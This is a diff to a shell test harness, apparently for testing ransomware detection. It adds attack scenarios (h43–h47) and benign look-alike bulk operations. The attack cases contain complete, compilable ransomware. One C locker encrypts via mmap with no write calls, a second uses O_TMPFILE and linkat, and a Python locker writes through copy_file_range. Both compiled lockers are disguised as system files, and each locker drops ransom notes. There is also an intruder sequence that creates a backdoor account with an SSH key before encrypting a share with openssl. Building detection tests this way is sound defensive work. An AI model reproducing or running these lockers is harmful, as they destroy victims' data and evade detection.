@@ -1477,3 +1477,209 @@ sc_b58_ssh_admin_gpg_recipient_shred() {
   sshx mkowalski 'cd ~/exports && for f in customers-*.csv; do gpg --batch --yes --trust-model always -e -r ops@lab.internal "$f" && shred -u "$f"; done; ls'
   rm -rf /home/mkowalski/exports /home/mkowalski/.gnupg
 }
+
+# ---- fifteenth batch, attacks: syscall shapes none of h1–h42 has — a compiled locker encrypting through mmap (no
+# write(2) at all; recorded twice: host rules, and a rule set that logs only opens for writing plus renames/deletes),
+# an O_TMPFILE file linked into place with linkat, an account created minutes before by the intruder and logged in
+# over ssh, a python locker copying its encrypted buffer into place with copy_file_range/sendfile
+mmx_build() {
+  install -d -m 700 /root/.mmx
+  cat > /root/.mmx/m.c <<'C'
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/stat.h>
+#include <unistd.h>
+static const char *NOTE = "MMX-README.txt";
+static void lock(const char *p) {
+  int fd = open(p, O_RDWR); if (fd < 0) return;
+  struct stat st; if (fstat(fd, &st) || st.st_size <= 0) { close(fd); return; }
+  unsigned char *m = mmap(NULL, st.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+  if (m == MAP_FAILED) { close(fd); return; }
+  unsigned int s = 0x6d6d7821u;                  /* the mapping is encrypted in place: no write(2) at all */
+  for (off_t i = 0; i < st.st_size; i++) { s ^= s << 13; s ^= s >> 17; s ^= s << 5; m[i] ^= (unsigned char)s; }
+  msync(m, st.st_size, MS_SYNC); munmap(m, st.st_size); close(fd);
+  char q[4200]; snprintf(q, sizeof q, "%s.mmx", p); rename(p, q);
+}
+static void walk(const char *d) {
+  DIR *dir = opendir(d); struct dirent *e; char p[4096]; struct stat st; if (!dir) return;
+  snprintf(p, sizeof p, "%s/%s", d, NOTE);
+  FILE *f = fopen(p, "w"); if (f) { fputs("Files encrypted. Write to mmx@proton.example with your ID.\n", f); fclose(f); }
+  while ((e = readdir(dir))) {
+    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") || !strcmp(e->d_name, NOTE) || strstr(e->d_name, ".mmx")) continue;
+    snprintf(p, sizeof p, "%s/%s", d, e->d_name); if (lstat(p, &st)) continue;
+    if (S_ISDIR(st.st_mode)) walk(p); else if (S_ISREG(st.st_mode)) lock(p);
+  }
+  closedir(dir);
+}
+int main(int c, char **v) { for (int i = 1; i < c; i++) walk(v[i]); return 0; }
+C
+  gcc -O2 -o /root/.mmx/m /root/.mmx/m.c && install -m 755 /root/.mmx/m /var/tmp/.fstrim-cache; rm -rf /root/.mmx
+}
+pre_h43_ssh_sudo_mmap_locker() { mmx_build; }
+sc_h43_ssh_sudo_mmap_locker() {
+  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /var/www/shop/uploads -type f | wc -l) )) dirs $(( $(find /srv/nas/share -type d | wc -l) + $(find /var/www/shop/uploads -type d | wc -l) ))" > $CASE/facts
+  sshx deploy 'sudo /var/tmp/.fstrim-cache /srv/nas/share /var/www/shop/uploads; echo rc=$?'
+  rm -f /var/tmp/.fstrim-cache
+}
+pre_h44_ssh_mmap_locker_openw_rules() { mmx_build; chmod 755 /var/tmp/.fstrim-cache; }
+sc_h44_ssh_mmap_locker_openw_rules() {
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
+  sshx priya 'cp /var/tmp/.fstrim-cache ~/.cache/.fstrim 2>/dev/null || { mkdir -p ~/.cache && cp /var/tmp/.fstrim-cache ~/.cache/.fstrim; }; ~/.cache/.fstrim ~/work; echo rc=$?; rm -f ~/.cache/.fstrim'
+  rm -f /var/tmp/.fstrim-cache
+}
+pre_h45_ssh_otmpfile_linkat() {
+  install -d -m 700 /root/.tf
+  cat > /root/.tf/t.c <<'C'
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <fcntl.h>
+#include <libgen.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+static const char *NOTE = "TMPF_RECOVERY.txt";
+static void lock(const char *d, const char *p) {
+  int in = open(p, O_RDONLY); if (in < 0) return;
+  struct stat st; if (fstat(in, &st) || st.st_size <= 0) { close(in); return; }
+  unsigned char *b = malloc(st.st_size); ssize_t r = read(in, b, st.st_size); close(in);
+  if (r != st.st_size) { free(b); return; }
+  unsigned int s = 0x746d7066u;
+  for (off_t i = 0; i < st.st_size; i++) { s ^= s << 13; s ^= s >> 17; s ^= s << 5; b[i] ^= (unsigned char)s; }
+  int fd = open(d, O_TMPFILE | O_WRONLY, 0600);  /* an unnamed file in the folder: its data lands before it has a name */
+  if (fd < 0) { free(b); return; }
+  write(fd, b, st.st_size); free(b); fsync(fd);
+  char q[4200], fdp[64]; snprintf(q, sizeof q, "%s.tmpf", p); snprintf(fdp, sizeof fdp, "/proc/self/fd/%d", fd);
+  if (linkat(fd, "", AT_FDCWD, q, AT_EMPTY_PATH) && linkat(AT_FDCWD, fdp, AT_FDCWD, q, AT_SYMLINK_FOLLOW)) { close(fd); return; }
+  close(fd); unlink(p);
+}
+static void walk(const char *d) {
+  DIR *dir = opendir(d); struct dirent *e; char p[4096]; struct stat st; if (!dir) return;
+  snprintf(p, sizeof p, "%s/%s", d, NOTE);
+  FILE *f = fopen(p, "w"); if (f) { fputs("Your documents are locked. tmpf-support@tutanota.example\n", f); fclose(f); }
+  while ((e = readdir(dir))) {
+    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") || !strcmp(e->d_name, NOTE) || strstr(e->d_name, ".tmpf")) continue;
+    snprintf(p, sizeof p, "%s/%s", d, e->d_name); if (lstat(p, &st)) continue;
+    if (S_ISDIR(st.st_mode)) walk(p); else if (S_ISREG(st.st_mode)) lock(d, p);
+  }
+  closedir(dir);
+}
+int main(int c, char **v) { for (int i = 1; i < c; i++) walk(v[i]); return 0; }
+C
+  gcc -O2 -o /root/.tf/t /root/.tf/t.c && install -m 755 /root/.tf/t /var/tmp/.gvfs-metadata; rm -rf /root/.tf
+}
+sc_h45_ssh_otmpfile_linkat() {
+  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -type d | wc -l)" > $CASE/facts
+  sshx mkowalski '/var/tmp/.gvfs-metadata ~/Documents; echo rc=$?'
+  rm -f /var/tmp/.gvfs-metadata
+}
+pre_h46_ssh_new_account_openssl() {
+  pkill -u svc-backup2 2>/dev/null; userdel -r svc-backup2 >/dev/null 2>&1; true
+}
+sc_h46_ssh_new_account_openssl() {
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
+  # the intruder (in as mkowalski, who may sudo) makes a service-looking account, gives it his key and the share
+  sshx mkowalski 'sudo useradd -m -s /bin/bash svc-backup2 && sudo usermod -p "*" svc-backup2 && sudo install -d -m 700 -o svc-backup2 -g svc-backup2 /home/svc-backup2/.ssh && sudo tee /home/svc-backup2/.ssh/authorized_keys >/dev/null && sudo chown svc-backup2: /home/svc-backup2/.ssh/authorized_keys && sudo setfacl -R -m u:svc-backup2:rwX /srv/nas/share && sudo setfacl -R -d -m u:svc-backup2:rwX /srv/nas/share; id svc-backup2' < $HO/key.pub
+  sleep 3
+  sshx svc-backup2 'cd /srv/nas/share && find . -type f | while read -r f; do openssl enc -aes-256-cbc -pbkdf2 -salt -pass pass:Bk2-9f1e77 -in "$f" -out "$f.bk2" && rm -f "$f"; done; find . -type d -exec sh -c "echo \"All files on this share are encrypted. Mail bk2@onionmail.example\" > \"\$1/BK2-RESTORE.txt\"" _ {} \; ; echo done'
+  pkill -u svc-backup2 2>/dev/null; userdel -r svc-backup2 >/dev/null 2>&1; true
+}
+pre_h47_ssh_python_copy_file_range() {
+  install -d -m 755 /var/tmp/.cfr
+  cat > /var/tmp/.cfr/c.py <<'P'
+import os, sys
+KEY = bytes.fromhex('9f3c51a2e07b44d18c26f5aa0b7e31c9')
+NOTE = 'CFR-HOW-TO-DECRYPT.txt'
+used = set()
+def put(src, dst, n):
+    off = 0
+    while off < n:                       # the encrypted buffer goes into place by the kernel, not by write(2)
+        try: k = os.copy_file_range(src, dst, n - off); used.add('copy_file_range')
+        except OSError: k = os.sendfile(dst, src, off, n - off); used.add('sendfile')
+        if k == 0: break
+        off += k
+for root, dirs, files in os.walk(sys.argv[1]):
+    with open(os.path.join(root, NOTE), 'w') as f: f.write('Your files were encrypted. Contact cfr@protonmail.example\n')
+    for n in files:
+        if n.endswith('.cfr') or n == NOTE: continue
+        p = os.path.join(root, n)
+        with open(p, 'rb') as f: data = f.read()
+        enc = bytes(b ^ KEY[i % 16] for i, b in enumerate(data))
+        buf = os.memfd_create('cfr')
+        os.write(buf, enc); os.lseek(buf, 0, 0)
+        dst = os.open(p + '.cfr', os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
+        put(buf, dst, len(enc)); os.close(dst); os.close(buf)
+        os.unlink(p)
+print('via', ' '.join(sorted(used)))
+P
+  chmod 644 /var/tmp/.cfr/c.py
+}
+sc_h47_ssh_python_copy_file_range() {
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
+  sshx priya 'python3 /var/tmp/.cfr/c.py ~/work' | tee -a $CASE/facts.via
+  rm -rf /var/tmp/.cfr
+}
+
+# ---- fifteenth batch, look-alikes a real host does in bulk: zstd --rm over 240 old logs (new suffix, originals
+# removed), 200 photos renamed by their EXIF date with exiftool, an admin converting 120 certificates to DER and a few
+# to PKCS#12 with openssl (no encryption, originals kept), a python venv and pip install from the local wheel cache
+pre_b59_cron_zstd_old_logs() {
+  rm -rf /srv/nas/applogs; mkdir -p /srv/nas/applogs
+  python3 - <<'PY'
+import os, random
+r = random.Random(59)
+for app in ['billing', 'ingest', 'api', 'scheduler']:
+    d = f'/srv/nas/applogs/{app}'; os.makedirs(d, exist_ok=True)
+    for day in range(60):
+        with open(f'{d}/{app}-2026-{9 + day // 30:02d}-{day % 30 + 1:02d}.log', 'w') as f:
+            for _ in range(r.randint(100, 400)):
+                f.write(f'2026-10-01T{r.randint(0,23):02d}:{r.randint(0,59):02d}:00Z INFO {app} req={r.randint(1,10**6)} ms={r.randint(1,900)}\n')
+PY
+  find /srv/nas/applogs -name '*.log' -exec touch -d '20 days ago' {} +
+  chown -R svc-nas: /srv/nas/applogs
+}
+sc_b59_cron_zstd_old_logs() {
+  rm -f /tmp/.b59-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * svc-nas find /srv/nas/applogs -name '*.log' -mtime +7 -print0 | xargs -0 -r zstd --rm -q; touch /tmp/.b59-done" > /etc/cron.d/applogs-compress
+  for i in $(seq 150); do [ -f /tmp/.b59-done ] && break; sleep 1; done; sleep 2; rm -f /etc/cron.d/applogs-compress
+  echo "zst $(find /srv/nas/applogs -name '*.zst' | wc -l)" >> $CASE/facts
+  rm -rf /srv/nas/applogs
+}
+pre_b60_ssh_exiftool_rename_photos() {
+  rm -rf /home/tomas/Pictures; mkdir -p /home/tomas/Pictures/import/{card1,card2}
+  convert -size 320x240 plasma:fractal /tmp/.b60.jpg 2>/dev/null || convert -size 320x240 xc:skyblue /tmp/.b60.jpg
+  for i in $(seq -w 1 210); do d=card$(( (10#$i % 2) + 1 )); cp /tmp/.b60.jpg /home/tomas/Pictures/import/$d/IMG_$((4000 + 10#$i)).JPG
+    touch -d "$(printf '2026-%02d-%02d %02d:%02d:07' $(( 10#$i % 9 + 1 )) $(( 10#$i % 27 + 1 )) $(( 10#$i % 23 )) $(( 10#$i % 59 )))" /home/tomas/Pictures/import/$d/IMG_$((4000 + 10#$i)).JPG; done
+  rm -f /tmp/.b60.jpg
+  exiftool -q -r -overwrite_original -P '-CreateDate<FileModifyDate' '-DateTimeOriginal<FileModifyDate' /home/tomas/Pictures/import
+  chown -R tomas: /home/tomas/Pictures
+}
+sc_b60_ssh_exiftool_rename_photos() {
+  sshx tomas "exiftool -q -r '-FileName<CreateDate' -d %Y%m%d_%H%M%S%%-c.%%e ~/Pictures/import; find ~/Pictures/import -type f | wc -l"
+  rm -rf /home/tomas/Pictures
+}
+pre_b61_ssh_sudo_openssl_x509_der() {
+  rm -rf /srv/pki; mkdir -p /srv/pki/certs /srv/pki/private
+  for i in $(seq -w 1 120); do openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=host$i.lab.internal" -days 365 \
+    -keyout /srv/pki/private/host$i.key -out /srv/pki/certs/host$i.pem 2>/dev/null; done
+  chmod 600 /srv/pki/private/*
+}
+sc_b61_ssh_sudo_openssl_x509_der() {
+  sshx deploy 'sudo sh -c '"'"'cd /srv/pki/certs && for f in *.pem; do openssl x509 -in "$f" -outform der -out "${f%.pem}.der"; done && for h in host001 host002 host003 host004 host005; do openssl pkcs12 -export -inkey ../private/$h.key -in $h.pem -passout pass:Exp0rt-2026 -out $h.p12; done; ls | wc -l'"'"
+  rm -rf /srv/pki
+}
+pre_b62_ssh_venv_pip_local_wheels() {
+  rm -rf /home/tomas/proj-web; mkdir -p /home/tomas/proj-web/app
+  printf 'setuptools==66.1.1\npip==23.0.1\n' > /home/tomas/proj-web/requirements.txt
+  printf 'def main():\n    print("ok")\n' > /home/tomas/proj-web/app/__init__.py
+  chown -R tomas: /home/tomas/proj-web
+}
+sc_b62_ssh_venv_pip_local_wheels() {
+  sshx tomas 'cd ~/proj-web && python3 -m venv .venv && .venv/bin/pip install -q --no-index --find-links /usr/share/python-wheels -r requirements.txt && find .venv -type f | wc -l'
+  rm -rf /home/tomas/proj-web
+}
